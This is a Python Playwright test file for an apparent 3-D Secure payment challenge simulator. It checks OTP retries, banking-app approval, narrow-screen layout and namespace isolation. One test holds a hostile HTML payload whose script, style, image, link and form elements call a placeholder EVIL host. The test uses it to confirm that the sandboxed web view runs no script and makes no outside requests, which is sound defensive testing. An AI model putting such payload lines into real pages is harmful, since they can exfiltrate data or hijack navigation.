"""The phone app at the desk in a real Chromium: screens of the bank beside the phone, pressed with the thumb."""

import asyncio
import re
from collections.abc import AsyncIterator

import aiohttp
import pytest
from playwright.async_api import Page, expect

from acs_sim.running.stack import Stack, running_stack
from acs_sim.settings.settings import Settings
from tests.acs.second_sdk import b64
from tests.support.accessibility import findings
from tests.support.ports import with_free_ports
from tests.system.test_shops_in_chromium import picture

pytestmark = pytest.mark.browser
NARROW = {"width": 390, "height": 844}


@pytest.fixture(scope="module")
async def simulator() -> AsyncIterator[Stack]:
    async with running_stack(with_free_ports(Settings(fresh=True, seed=7))) as stack:
        yield stack


@pytest.fixture
async def desk(page: Page, simulator: Stack) -> Page:
    page.base, page.errors = simulator.addresses.desk, []
    page.on("pageerror", lambda error: page.errors.append(str(error)))
    return page


async def paid(page: Page, scenario: str, version: str = "2.2.0", interface: str = "03") -> None:
    """A payment in a fresh app, up to its first screen."""
    await page.goto(f"{page.base}/app")
    await page.select_option("[name=scenario]", scenario)
    await page.select_option("[name=version]", version)
    await page.select_option("[name=interface]", interface)
    await page.get_by_role("button", name="Pay").click()
    await page.locator("#app .secure").wait_for()


def words(page: Page):
    return page.locator("#words")


async def test_three_wrong_codes_are_refused_on_a_narrow_screen(desk):
    await desk.set_viewport_size(NARROW)
    await paid(desk, "challenge-otp", "2.3.1")
    await expect(desk.frame_locator("#phone").locator(".bubble")).to_have_count(1)
    loaded = "images => images.every(one => one.complete && one.naturalWidth > 0)"
    await desk.wait_for_function(f"({loaded})([...document.querySelectorAll('.images img')])")
    await desk.get_by_text("Why am I asked?").click()
    await expect(desk.get_by_text("Your bank makes sure")).to_be_visible()
    assert await fits(desk)
    assert await findings(desk) == []
    for left in ("2 tries left", "1 try left"):
        await desk.locator("#entry").fill("000000")
        await desk.locator("#press-submit").click()
        await expect(words(desk)).to_contain_text(left)
        await expect(desk.locator("#entry")).to_have_value("")
    await desk.locator("#entry").fill("000000")
    await desk.locator("#press-submit").click()
    await expect(desk.locator("#ended")).to_contain_text("The payment was refused. Contact your bank")
    await expect(desk.locator("#ended")).to_have_attribute("data-outcome", "completed")
    assert desk.errors == []


async def test_the_banking_app_is_opened_by_its_link_and_comes_back_by_itself(desk):
    await paid(desk, "challenge-oob")
    await desk.locator("#press-leave").click()
    await expect(desk.locator("#home")).to_contain_text("Home screen")
    await desk.locator("#press-back").click()
    await expect(words(desk)).to_have_text("If you have approved the payment in your banking app, continue.")
    await picture(desk, "phone-app")
    await desk.get_by_role("button", name="Open the banking app").click()
    await expect(desk.locator("#home")).to_contain_text("The banking app is open")
    await desk.frame_locator("#phone").get_by_role("button", name="Approve").click()
    await expect(desk.locator("#ended")).to_contain_text("Thank you")
    assert desk.errors == []


async def test_other_screens_fit_a_narrow_phone_too(desk):
    await desk.set_viewport_size(NARROW)
    await paid(desk, "challenge-single-select")
    await desk.locator("label.choice").first.click()
    await desk.locator("#press-submit").click()
    await desk.locator("#entry").wait_for()
    assert await fits(desk)
    await paid(desk, "challenge-oob", "2.3.1", interface="02")
    await desk.frame_locator("#web-view").locator("#submit").wait_for()
    assert await fits(desk)
    await paid(desk, "challenge-auto-fail", "2.3.1")
    assert await fits(desk)
    await desk.locator("#press-submit").click()
    await expect(desk.locator("#ended")).to_contain_text("The payment was refused")


async def fits(page: Page) -> bool:
    """Whether nothing is wider than its screen."""
    whole = await page.evaluate("document.documentElement.scrollWidth") <= NARROW["width"]
    return whole and await page.locator(".glass").evaluate("glass => glass.scrollWidth <= glass.clientWidth")


async def test_a_page_of_the_banks_is_filled_in_in_the_frame_of_the_web_view(desk):
    await paid(desk, "challenge-multi-select", "2.2.0", interface="02")
    bank = desk.frame_locator("#web-view")
    for choice in ("2", "5"):
        await bank.locator(f"#choice-{choice}").check()
    await bank.locator("#submit").click()
    await expect(desk.locator("#ended")).to_contain_text("Thank you")
    assert desk.errors == []


HOSTILE = """<!doctype html>
<style>@import url(http://EVIL/a.css); body { background: url(http://EVIL/b.png) }</style>
<link rel="stylesheet" href="http://EVIL/c.css"><link rel="prefetch" href="http://EVIL/d">
<meta http-equiv="refresh" content="0; url=http://EVIL/e"><base href="http://EVIL/">
<script>document.title = "ran"; fetch("http://EVIL/f"); parent.postMessage("ran", "*")</script>
<img src="http://EVIL/g.png" onerror="document.title = 'ran'"><iframe src="http://EVIL/h"></iframe>
<a id="away" href="http://EVIL/i">away</a> <a id="up" target="_top" href="http://EVIL/j">up</a>
<form id="steal" method="post" action="http://EVIL/k"><button id="post">post</button></form>
<form action="HTTPS://EMV3DS/challenge"><input name="challengeValue" value="yes"><button id="submit">Go</button></form>"""


async def test_a_page_in_the_web_view_runs_no_script_and_asks_nobody_for_anything(desk, simulator):
    knocked = []
    evil = await asyncio.start_server(lambda _, writer: (knocked.append(1), writer.close()), "127.0.0.1", 0)
    address = f"127.0.0.1:{evil.sockets[0].getsockname()[1]}"
    acs_html = b64(HOSTILE.replace("EVIL", address).encode())
    fault = {"at": "CRes", "do": "set", "element": "acsHTML", "value": acs_html}
    async with evil, aiohttp.ClientSession() as session:
        await session.post(f"{simulator.addresses.desk}/api/faults", json=fault)
        await paid(desk, "challenge-html")
        bank = desk.frame_locator("#web-view")
        for link in ("#up", "#away", "#post"):  # what is refused leaves an empty frame
            await bank.locator(link).click()
            await desk.reload()
        assert await desk.title() == "Phone app · acs-sim"
        await bank.locator("#submit").click()
        await expect(desk.locator("#ended")).to_contain_text("Thank you")
    assert knocked == []


async def test_in_a_namespace_all_of_it_stays_there(simulator):
    at = simulator.addresses
    async with aiohttp.ClientSession() as session:
        await session.put(f"{at.desk}/api/namespaces/team-a")
        wish = {"scenario": "challenge-html", "interface": "02"}
        async with session.post(f"{at.desk}/~team-a/app", data=wish) as answer:
            page, policy = str(answer.url), answer.headers["Content-Security-Policy"]
        assert page.startswith(f"{at.desk}/~team-a/app/")
        assert f"frame-src 'self' {at.phone};" in policy
        async with session.get(f"{page}/web-view") as answer:
            (caught,) = re.findall('action="([^"]*)"', await answer.text())
        assert caught.startswith(f"{page}/caught/")
        for address in (f"{page}/caught/of-another-screen", caught):
            await session.get(address, params={"challengeValue": "yes", "action": "submit"})
            async with session.get(f"{page}/screen") as answer:
                ended = "Thank you" in await answer.text()
            assert ended == (address == caught)
        await session.delete(f"{at.desk}/api/namespaces/team-a")
